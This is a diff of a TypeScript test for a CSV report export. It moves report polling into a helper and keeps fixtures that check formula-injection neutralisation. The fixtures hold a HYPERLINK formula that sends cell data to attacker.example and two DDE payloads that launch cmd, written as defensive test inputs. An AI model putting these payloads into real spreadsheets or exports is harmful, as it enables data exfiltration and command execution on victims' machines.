@@ -7,10 +7,10 @@ import { createInvocationEventsRepository } from "../../src/modules/invocations/
 import { normalizeRecord } from "../../src/modules/invocations/normalize.js";
 import { buildTrailEvent } from "../../src/sandbox/trail.js";
 import { startTestApp, type TestApp } from "../helpers/app.js";
+import { requestReport } from "../helpers/reports.js";
 import { unzip } from "../helpers/zip.js";
 
 const ACCOUNT = "210987654321";
-const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
 const HOSTILE_MODEL = `=HYPERLINK("https://attacker.example/?d="&A1,"Click")`;
 const HOSTILE_ARN = "@SUM(1+1)*cmd|' /C calc'!A0";
 const HOSTILE_ERROR = "+cmd|' /C notepad'!A0";
@@ -104,29 +104,15 @@ afterAll(async () => t?.close());
 
 describe("CSV report", () => {
   it("neutralizes cells that would start a formula: a single quote before them, and quoted", async () => {
-    const res = await t.app.inject({
-      method: "POST",
-      url: "/v1/reports",
-      headers: { authorization: auditor },
-      payload: {
-        from: new Date(Date.now() - 3_600_000).toISOString(),
-        to: new Date(Date.now() + 3_600_000).toISOString(),
-        scope: { kind: "organization" },
-        format: "csv",
-        includeEvents: true,
-      },
+    const { meta, data } = await requestReport(t, auditor, {
+      from: new Date(Date.now() - 3_600_000).toISOString(),
+      to: new Date(Date.now() + 3_600_000).toISOString(),
+      scope: { kind: "organization" },
+      format: "csv",
+      includeEvents: true,
     });
-    expect(res.statusCode, res.body).toBe(202);
-    const id = (res.json() as { id: string }).id;
-    let meta: Record<string, unknown> = {};
-    for (let i = 0; i < 300 && meta.status !== "ready" && meta.status !== "failed"; i++) {
-      await sleep(100);
-      meta = (await t.app.inject({ url: `/v1/reports/${id}`, headers: { authorization: auditor } })).json();
-    }
     expect(meta.status).toBe("ready");
-    const dl = await t.app.inject({ url: String(meta.downloadUrl), headers: { authorization: auditor } });
-    expect(dl.statusCode).toBe(200);
-    const files = await unzip(dl.rawPayload);
+    const files = await unzip(data);
     const rows = files.flatMap((f) => parseCsv(f.bytes.toString("utf8")));
     const cells = rows.flat();
 
